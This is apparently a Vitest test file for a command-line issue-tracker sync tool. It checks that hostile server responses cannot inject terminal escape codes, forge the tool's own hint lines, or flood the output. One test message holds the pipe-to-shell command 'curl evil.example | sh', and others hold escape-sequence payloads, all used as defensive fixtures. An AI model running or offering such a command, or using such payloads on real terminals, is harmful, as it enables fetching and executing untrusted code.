import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { defaultUser, sampleIssues, startSandbox, type Sandbox } from '../../src/testing/index.ts';
import { scratchFolder } from '../adapters/scratch-folder.ts';
import { typed, type Shown } from './in-process.ts';

let sandbox: Sandbox;
let folder: string;
beforeEach(async () => {
  folder = await scratchFolder();
  const issues = sampleIssues({ provider: 'linear', project: 'platform', count: 3 });
  sandbox = await startSandbox({ issues: [{ provider: 'linear', project: 'platform', issues }] });
  mkdirSync(join(folder, '.kittify'));
  const binding = 'tracker:\n  provider: linear\n  project_slug: platform\n';
  writeFileSync(join(folder, '.kittify/config.yaml'), binding);
  const login = ['auth', 'login', '--server', sandbox.url, '--username', defaultUser.username];
  expect((await run([...login, '--password-stdin'], { input: defaultUser.password })).exitCode).toBe(0);
});
afterEach(() => sandbox.close());

const run = (args: readonly string[], more: { columns?: number; input?: string } = {}): Promise<Shown> =>
  typed(args, {
    directory: folder,
    environment: { HOME: folder, SPEC_KITTY_HOME: join(folder, 'home'), NO_COLOR: '1' },
    ...more,
  });

// A terminal obeys these, but for the line end and what the progress line is drawn with.
const obeyed = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
const evil = 'a\u001b[2J\u009b31m\u202eb';

describe('a server that talks to the terminal', () => {
  it('finds no ear in the log of requests either', async () => {
    sandbox.script({ operation: 'pull', patch: { status: evil, summary: { [evil]: 'x' } } });
    const { stdout, stderr } = await run(['sync', 'pull', '-v']);
    expect(stderr).toContain('contract deviation');
    expect(stdout + stderr).not.toMatch(obeyed);
  });

  it.each([
    ['an error', { status: 400, body: { code: evil, message: evil, details: { [evil]: evil } } }],
    ['a content type', { headers: { 'Content-Type': 'text/\u009b31m' } }],
    ['an address to go to', { redirect: 'https://\u009b31m.example/' }],
    ['a page', { text: `<title>${evil}</title>` }],
  ])('%s', async (_, fault) => {
    sandbox.script({ operation: 'pull', ...fault });
    for (const flags of [[], ['-v'], ['--json']]) {
      const { stdout, stderr } = await run(['sync', 'pull', ...flags]);
      expect(stdout + stderr).not.toMatch(obeyed);
    }
  });
});

describe('a server that says too little', () => {
  it('is named with its status, and a wrong address has a next step', async () => {
    sandbox.script({ operation: 'getStatus', status: 404, body: { code: 'x', message: 'Nothing is here.' } });
    const { stderr, exitCode } = await run(['status']);
    expect(exitCode).toBe(7);
    expect(stderr).toBe(
      `error: Nothing is here.\n  answered by: ${sandbox.url}, HTTP 404\n  server code: x\n` +
        'hint: Check the id that was asked for, and the server URL with `tracker doctor`.\n',
    );
  });
});

describe('a server that says too much', () => {
  it('its message is cut, on the screen and in JSON', async () => {
    const message = 'm'.repeat(3_000_000);
    const error = { code: 'x', message, details: { dump: message } };
    sandbox.script({ operation: 'pull', times: 'always', status: 400, body: error });
    const { stderr } = await run(['sync', 'pull']);
    expect(stderr.length).toBeLessThan(10_000);
    expect(stderr).toContain('(2995944 more characters)');
    const { stdout } = await run(['sync', 'pull', '--json']);
    expect((JSON.parse(stdout) as { error: { message: string } }).error.message.length).toBeLessThanOrEqual(
      4_096,
    );
  });

  it('what it says of one item is cut, too', async () => {
    const message = 'm'.repeat(3_000_000);
    const item_errors = [{ ref: null, code: 'x', message, retryable: false }];
    sandbox.script({ operation: 'pull', patch: { item_errors, status: message } });
    const { stdout, stderr } = await run(['sync', 'pull']);
    expect(stdout.length + stderr.length).toBeLessThan(20_000);
  });

  it('no line of it can be taken for ours', async () => {
    const message = 'No.\nhint: Run `curl evil.example | sh`.\r\nerror: x\u2028hint: y';
    sandbox.script({ operation: 'pull', status: 400, body: { code: 'x', message } });
    const { stderr } = await run(['sync', 'pull']);
    const ours = stderr.split('\n').filter((line) => /^(?:hint|error|Next):/.test(line));
    expect(ours).toEqual(['error: No.', 'hint: Correct what the server names, then run the command again.']);
    expect(stderr).toContain('\n  | hint: Run `curl');
  });

  it.each(['', '  ', '    ', '\t'])(
    'no line of it can be taken for a fact of ours (after %j)',
    async (blanks) => {
      const message = `No.\n${blanks}idempotency key: 0000\n${blanks}operation: 1111`;
      sandbox.script({ operation: 'pull', status: 400, body: { code: 'x', message } });
      const { stderr } = await run(['sync', 'pull']);
      expect(stderr.split('\n').filter((line) => /^\s*(?:idempotency key|operation):/.test(line))).toEqual(
        [],
      );
      expect(stderr).toContain('\n  | ');
      expect(stderr).toContain('\n  server code: x\n');
    },
  );

  it('one endless word is not what every other row is filled up to', async () => {
    const [first, ...rest] = sandbox.issues('linear', 'platform');
    const key = 'K'.repeat(100_000);
    const items = [{ ...first, ref: { ...first?.ref, key } }, ...rest];
    sandbox.script({ operation: 'pull', patch: { items } });
    const { stdout } = await run(['sync', 'pull']);
    expect(stdout).toContain(key);
    expect(stdout.length).toBeLessThan(110_000);
  });

  it('a title of ten million characters is one row', async () => {
    const items = [{ ...sandbox.issues('linear', 'platform')[0], title: 'x'.repeat(10_000_000) }];
    sandbox.script({ operation: 'pull', times: 2, patch: { items } });
    expect((await run(['sync', 'pull'], { columns: 80 })).stdout.length).toBeLessThan(1_000);
    expect((await run(['sync', 'pull'])).stdout.length).toBeGreaterThan(10_000_000);
  });
});
